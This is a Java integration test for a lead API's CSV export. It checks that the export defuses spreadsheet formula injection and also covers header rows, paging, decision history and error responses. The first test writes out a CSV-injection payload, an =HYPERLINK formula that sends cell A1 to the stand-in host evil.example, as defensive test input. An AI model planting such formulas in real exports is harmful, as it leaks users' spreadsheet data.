package io.leadrules.app.lead;

import static org.assertj.core.api.Assertions.assertThat;

import io.leadrules.app.ApiClient;
import io.leadrules.app.FullServiceTest;
import java.net.http.HttpResponse;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.web.server.LocalServerPort;
import tools.jackson.databind.JsonNode;

/** The sales queue and a lead's decisions as CSV ({@code Accept: text/csv}): the formula attack first. */
@FullServiceTest
class LeadCsvExportTest {

    @LocalServerPort
    int port;

    ApiClient api;
    String tag;

    @BeforeEach
    void client() {
        api = new ApiClient(port);
        tag = TestLeads.tag();
    }

    @Test
    void aCompanyThatASpreadsheetWouldRunAsAFormulaIsExportedDefused() {
        create("=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Click\\\") " + tag, "ana." + tag);
        create("@SUM(1+1) " + tag, "sven." + tag);

        String csv = csv("/api/v1/leads?sort=createdAt&q=" + tag).body();

        assertThat(csv).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\") " + tag + "\",");
        assertThat(csv).contains(",'@SUM(1+1) " + tag + ",");
        assertThat(csv).doesNotContain(",=HYPERLINK", ",@SUM");
    }

    @Test
    void theQueueComesWithAHeaderRowAndEveryLeadOfTheFilterUnlessAPageIsAskedFor() {
        String first = create("Acme " + tag, "ana." + tag);
        String second = create("BrightPath " + tag, "sven." + tag);

        HttpResponse<String> all = csv("/api/v1/leads?sort=createdAt&q=" + tag);
        HttpResponse<String> page = csv("/api/v1/leads?sort=createdAt&size=1&page=1&q=" + tag);

        assertThat(all.headers().firstValue("Content-Type")).hasValueSatisfying(
                type -> assertThat(type).startsWith("text/csv"));
        List<String> lines = all.body().lines().toList();
        assertThat(lines.get(0)).isEqualTo("id,externalId,firstName,lastName,email,company,jobTitle,score,grade,"
                + "temperature,stage,funnelStage,priority,rulesetVersion,decidedAt,createdAt,updatedAt");
        assertThat(lines).hasSize(3);
        assertThat(lines.subList(1, 3)).map(line -> line.split(",")[0]).containsExactlyInAnyOrder(first, second);
        assertThat(page.body().lines().toList()).containsExactly(lines.get(0), lines.get(2));
    }

    @Test
    void aLeadsDecisionsComeAsCsvNewestFirst() {
        String id = create("Acme " + tag, "ana." + tag);
        api.send("/api/v1/leads/" + id, request -> request.header("Content-Type", "application/merge-patch+json")
                .method("PATCH", java.net.http.HttpRequest.BodyPublishers.ofString("{\"jobTitle\": \"CEO\"}")));

        List<String> lines = csv("/api/v1/leads/" + id + "/decisions").body().lines().toList();

        assertThat(lines.get(0)).isEqualTo("id,leadId,sequenceNumber,decidedAt,asOf,rulesetVersion,score,stage,"
                + "temperature");
        assertThat(lines).hasSize(3);
        assertThat(lines.get(1).split(",")[2]).isGreaterThan(lines.get(2).split(",")[2]);
        assertThat(lines.get(1).split(",")[1]).isEqualTo(id);
    }

    @Test
    void aBadQueryAskedAsCsvIsStillAProblem() {
        api.problem(csv("/api/v1/leads?size=0"), 400, "/problems/invalid-query");
        api.problem(csv("/api/v1/leads/" + java.util.UUID.randomUUID() + "/decisions"), 404,
                "/problems/lead-not-found");
    }

    @Test
    void theApiDescriptionOffersTheListsAsCsv() {
        JsonNode paths = api.ok(api.get("/v3/api-docs")).get("paths");

        for (String path : List.of("/api/v1/leads", "/api/v1/leads/{id}/decisions")) {
            assertThat(paths.get(path).get("get").get("responses").get("200").get("content").has("text/csv"))
                    .as(path).isTrue();
        }
    }

    private String create(String company, String email) {
        String body = "{\"lead\": {\"externalId\": \"crm-" + email + "\", \"email\": \"" + email + "@example.com\", "
                + "\"company\": \"" + company + "\", \"consent\": {\"dataProcessing\": true}}}";
        return api.expect(201, api.postJson("/api/v1/leads", body)).get("id").asString();
    }

    private HttpResponse<String> csv(String path) {
        return api.send(path, request -> request.header("Accept", "text/csv").GET());
    }
}
